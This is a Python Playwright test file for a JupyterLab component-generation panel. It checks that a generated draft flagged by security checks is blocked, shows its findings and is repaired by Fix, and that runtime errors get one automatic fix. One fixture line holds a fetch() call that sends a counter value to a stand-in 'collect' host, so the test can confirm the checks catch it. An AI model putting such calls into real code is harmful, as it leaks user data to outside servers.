"""Fixes from the Components panel: a blocked answer shows its findings and Fix repairs it; a panel edit
whose code throws in the cell is fixed automatically, once, and a fix that fails again waits for a click.

Like test_panel.py, these run their own JupyterLab with the server extension and this checkout's
labextension (``cd js && jlpm build``).
"""

from __future__ import annotations

import json
import time
from collections.abc import Generator
from pathlib import Path

import pytest
from playwright.sync_api import Page

from tests.provider import recording

from .lab import LabPage
from .panel_lab import PanelPage, enable_componentgen
from .panel_lab import _save_failure_evidence as save_failure_evidence
from .scenario import SETUP_CELL, component_cell, generate, queue_recording, wait_for_requests
from .servers import LabServer, ProviderControl, ProviderProcess, started
from .test_panel import preview_has, queue_answer, wait_for_version

pytestmark = pytest.mark.browser

COUNTER_CELL = component_cell("counter", "A button that counts its clicks.")
BANNED_CALL = 'fetch("https://example.invalid/collect?count=" + count);'
THROWS = '  if (count === 0) throw new Error("render exploded");'


def counter_with(line: str, label: str = "Add one") -> str:
    """The counter recording with ``line`` added after its state hook and its button saying ``label``."""
    text = recording("counter_button")
    hook = "  const [count, setCount] = useState(0);\n"
    assert hook in text, "the counter_button recording changed: update counter_with()"
    assert "Add one" in text, "the counter_button recording changed: update counter_with()"
    return text.replace(hook, hook + line + "\n").replace("Add one", label)


@pytest.fixture(scope="module")
def fix_server(e2e_workdir: Path, provider_process: ProviderProcess) -> Generator[LabServer, None, None]:
    server = LabServer(
        e2e_workdir / "panel-fix-lab", provider_process.url, extra_env={"COMPONENTGEN_CACHE": "false"}
    )
    enable_componentgen(server)
    with started(server, "JupyterLab"):
        yield server


@pytest.fixture
def panel(
    page: Page, fix_server: LabServer, provider_control: ProviderControl, request: pytest.FixtureRequest
) -> Generator[PanelPage, None, None]:
    """A new notebook whose kernel made version 1 of "counter"; the panel open on it."""
    page.set_default_timeout(30_000)
    lab = LabPage(page, fix_server.lab_url())
    lab.open()
    lab.new_notebook()
    queue_recording(provider_control, "counter_button")
    lab.run_ok(0, SETUP_CELL)
    generate(lab, 1, COUNTER_CELL)
    current = PanelPage(lab)
    current.show()
    current.component("counter").wait_for()
    current.pick("counter")
    yield current
    report = getattr(request.node, "report_call", None)
    if report is not None and report.failed:
        save_failure_evidence([lab], fix_server, request.node.name)
    fix_server.shutdown_kernels()


def test_a_blocked_answer_shows_its_findings_and_fix_makes_a_version_the_cell_renders(
    panel: PanelPage, provider_control: ProviderControl
) -> None:
    lab = panel.lab
    widget = lab.widget(1)
    queue_answer(provider_control, counter_with("  " + BANNED_CALL), seconds=1)
    panel.send("send the count to my server")

    findings = panel.part("cg-panel-findings")
    findings.wait_for(timeout=60_000)
    items = findings.locator("li")
    assert items.count() >= 1
    first = items.first
    assert first.locator(".cg-panel-finding-rule").inner_text().strip()
    assert "fetch" in first.inner_text()
    assert ":" in first.locator(".cg-panel-finding-where").inner_text()
    snippet = first.locator(".cg-panel-finding-snippet")
    assert "fetch(" in snippet.inner_text()
    font = snippet.evaluate("(node) => getComputedStyle(node).fontFamily")
    assert "mono" in font.lower(), font
    assert "Blocked" in panel.part("cg-panel-fix-bar").inner_text()
    panel.screenshot("panel-findings")
    assert (widget.version.text_content() or "") == "v1", "blocked code never reaches the cell"

    queue_answer(provider_control, counter_with("", label="Add one safely"), seconds=1)
    panel.part("cg-panel-fix").click()
    panel.wait_for_saved("counter", 2)
    wait_for_version(lab, widget, 2)
    preview_has(lab, widget, "Add one safely")
    assert panel.part("cg-panel-fix").count() == 0, "nothing left to fix"
    prompt = json.dumps(provider_control.requests()[-1]["body"])
    assert json.dumps(BANNED_CALL)[1:-1] in prompt, "the blocked draft is the code the model fixes"
    assert "static security checks blocked this code" in prompt


def test_a_panel_edit_that_throws_in_the_cell_is_fixed_automatically_once(
    panel: PanelPage, provider_control: ProviderControl
) -> None:
    lab = panel.lab
    widget = lab.widget(1)
    before = len(provider_control.requests())
    queue_answer(provider_control, counter_with(THROWS), seconds=1)
    # The automatic fix throws too: fixing it again needs the person's click.
    queue_answer(provider_control, counter_with(THROWS, label="Add one (fixed)"), seconds=1)
    panel.send("start counting at zero")

    requests = wait_for_requests(provider_control, before + 2, timeout=90)
    fix = json.dumps(requests[before + 1]["body"])
    assert "render exploded" in fix, "the model is told the error"
    assert "The error points at line" in fix or "does not name a line" in fix
    panel.wait_for_saved("counter", 3)
    wait_for_version(lab, widget, 3, timeout=60)
    bar = panel.part("cg-panel-fix-bar")
    lab.wait_until(lambda: "v3" in (bar.text_content() or ""), 60, "the panel does not offer to fix v3")
    assert "Runtime error" in bar.inner_text()
    # The report reached the server before this page saw it come back: a second automatic fix would be
    # asked by now. Watch a little longer to be sure none comes.
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        assert len(provider_control.requests()) == before + 2, "a fix of a fix ran without a click"
        time.sleep(0.2)
    panel.screenshot("panel-fix-offer")

    queue_answer(provider_control, counter_with("", label="Add one at last"), seconds=1)
    panel.part("cg-panel-fix").click()
    panel.wait_for_saved("counter", 4)
    wait_for_version(lab, widget, 4, timeout=60)
    preview_has(lab, widget, "Add one at last")
    assert len(provider_control.requests()) == before + 3


def test_the_cell_shows_a_blocked_panel_edit_and_its_fix_goes_to_the_server(
    panel: PanelPage, provider_control: ProviderControl
) -> None:
    lab = panel.lab
    widget = lab.widget(1)
    queue_answer(provider_control, counter_with("  " + BANNED_CALL), seconds=1)
    panel.send("send the count to my server")

    findings = widget.part("cg-findings")
    findings.wait_for(timeout=60_000)
    assert "fetch(" in findings.locator("li").first.inner_text()
    assert "Version 1" in widget.error.inner_text(), "the cell says which version is still current"
    assert (widget.version.text_content() or "") == "v1", "blocked code never reaches the cell"

    before = len(provider_control.requests())
    queue_answer(provider_control, counter_with("", label="Add one safely"), seconds=1)
    widget.part("cg-fix").click()
    wait_for_version(lab, widget, 2)
    preview_has(lab, widget, "Add one safely")
    requests = provider_control.requests()
    assert len(requests) == before + 1, "one click, one fix request"
    prompt = json.dumps(requests[-1]["body"])
    assert json.dumps(BANNED_CALL)[1:-1] in prompt, "the server fixes the blocked draft"
    lab.wait_until(lambda: widget.part("cg-findings").count() == 0, 30, "the findings stay after the fix")
